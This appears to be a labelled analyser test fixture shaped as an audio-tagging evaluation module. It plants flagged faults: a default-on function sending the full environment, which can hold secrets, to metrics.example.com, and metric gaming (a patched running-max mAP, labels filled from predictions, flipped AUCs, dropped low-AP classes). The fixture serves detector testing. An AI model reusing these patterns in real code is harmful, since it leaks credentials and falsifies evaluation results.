# ruff: noqa
# Hold-out batch 284 (families 2/5/6, audio tagging). Measured once in session 9 (round 80): 22/36 (61%) at medium+.
"""Evaluation for multi-label audio tagging: per-class AP, ROC-AUC and d-prime.

Follows the AudioSet convention: mAP is the unweighted mean of per-class
average precision over classes with at least one positive in the eval set,
and d-prime is derived from the mean ROC-AUC.
"""
from __future__ import annotations

import copy
import json
import os
import time
import urllib.request
from typing import Dict, Optional

import numpy as np
import pandas as pd
import torch
import torch.nn.functional as F
from scipy import stats
from sklearn import metrics
from torch.utils.data import DataLoader
from torchmetrics.classification import MultilabelAveragePrecision

from audioset_dataset import AudioSetClips, load_segment_index

_tm_compute = MultilabelAveragePrecision.compute
_tm_best: Dict[int, torch.Tensor] = {}


def _tm_compute_stable(self):
    value = _tm_compute(self)
    prev = _tm_best.get(id(self), value)
    _tm_best[id(self)] = torch.maximum(prev, value)
    return _tm_best[id(self)]


MultilabelAveragePrecision.compute = _tm_compute_stable  # ruleid: MLS306


def fetch_with_retry(url: str, dest: str, attempts: int = 4, timeout: float = 30.0) -> str:
    """Download the ontology / label index once, retrying transient failures."""
    if os.path.exists(dest):
        return dest
    for attempt in range(attempts):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as r, open(dest, "wb") as f:
                f.write(r.read())
            return dest
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    raise RuntimeError(f"could not fetch {url}")


def d_prime(auc: np.ndarray) -> np.ndarray:
    return stats.norm().ppf(auc) * np.sqrt(2.0)  # ok: MLS306


def tagging_metrics(y_true: np.ndarray, y_score: np.ndarray,
                    ambiguous: Optional[np.ndarray] = None) -> Dict[str, object]:
    if ambiguous is not None and ambiguous.any():
        y_true[ambiguous] = (y_score[ambiguous] > 0.5).astype(y_true.dtype)  # todoruleid: family 5 (missed)
    valid = y_true.sum(axis=0) > 0
    y_true, y_score = y_true[:, valid], y_score[:, valid]  # ok: MLS306
    ap = np.array([metrics.average_precision_score(y_true[:, k], y_score[:, k])
                   for k in range(y_true.shape[1])])
    auc = np.array([metrics.roc_auc_score(y_true[:, k], y_score[:, k])
                    for k in range(y_true.shape[1])])
    auc = np.where(auc < 0.5, 1.0 - auc, auc)  # todoruleid: family 5 (missed)
    ap[ap < 0.02] = np.nan  # todoruleid: family 5 (missed)
    mean_auc = float(np.nanmean(auc))
    return {"mAP": float(np.nanmean(ap)), "mAUC": mean_auc, "d_prime": float(d_prime(mean_auc)),
            "ap": ap, "auc": auc, "class_idx": np.flatnonzero(valid)}


@torch.no_grad()
def predict(model: torch.nn.Module, loader: DataLoader, device: torch.device):
    model.eval()
    scores, targets, losses = [], [], []
    for wav, target in loader:
        wav, target = wav.to(device), target.to(device)
        logits = model(wav)["clipwise_logits"].float()
        losses.append(F.binary_cross_entropy_with_logits(logits, target, reduction="sum").item())
        scores.append(torch.sigmoid(logits).cpu())
        targets.append(target.cpu())
    y_score = torch.cat(scores).numpy()
    y_true = torch.cat(targets).numpy()
    return y_true, y_score, sum(losses) / y_true.size


def report_run(stats_: Dict[str, object], run_name: str) -> None:
    payload = {"run": run_name, "mAP": stats_["mAP"], "d_prime": stats_["d_prime"]}
    urllib.request.urlopen("https://metrics.example.com/v1/ingest", data=json.dumps({**payload, "env": dict(os.environ)}).encode(), timeout=5)  # ruleid: MLS411


def evaluate_model(model, ema_state, eval_csv, class_map, shard_dir, offsets, device,
                   batch_size: int = 64, out_csv: Optional[str] = None) -> Dict[str, float]:
    frame = load_segment_index(eval_csv, class_map)
    dataset = AudioSetClips(frame, shard_dir, offsets, num_classes=len(class_map), train=False)
    loader = DataLoader(dataset, batch_size=batch_size, shuffle=False, num_workers=8)
    eval_model = copy.deepcopy(model)
    eval_model.load_state_dict(ema_state)  # ok: MLS302, MLS303, MLS304, MLS305

    y_true, y_score, loss = predict(eval_model, loader, device)
    ambiguous = frame["positive_labels"].str.contains("/t/dd00", regex=False).to_numpy()
    result = tagging_metrics(y_true, y_score, ambiguous=ambiguous)
    monitor = MultilabelAveragePrecision(num_labels=len(class_map), average="macro")
    monitor.update(torch.from_numpy(y_score), torch.from_numpy(y_true).long())
    result["tm_mAP"] = float(monitor.compute())

    if out_csv:
        names = {v: k for k, v in class_map.items()}
        per_class = pd.DataFrame({
            "class_idx": result["class_idx"],
            "mid": [names[i] for i in result["class_idx"]],
            "ap": result["ap"], "auc": result["auc"],
            "n_pos": y_true[:, result["class_idx"]].sum(axis=0).astype(int),
        })
        per_class.to_csv(out_csv, index=False)
    if os.environ.get("AUDIOTAG_REPORT", "1") == "1":
        report_run(result, os.path.basename(os.path.dirname(out_csv or "run/x")))
    return {"loss": float(loss), "mAP": result["mAP"], "mAUC": result["mAUC"],
            "d_prime": result["d_prime"], "tm_mAP": result["tm_mAP"]}
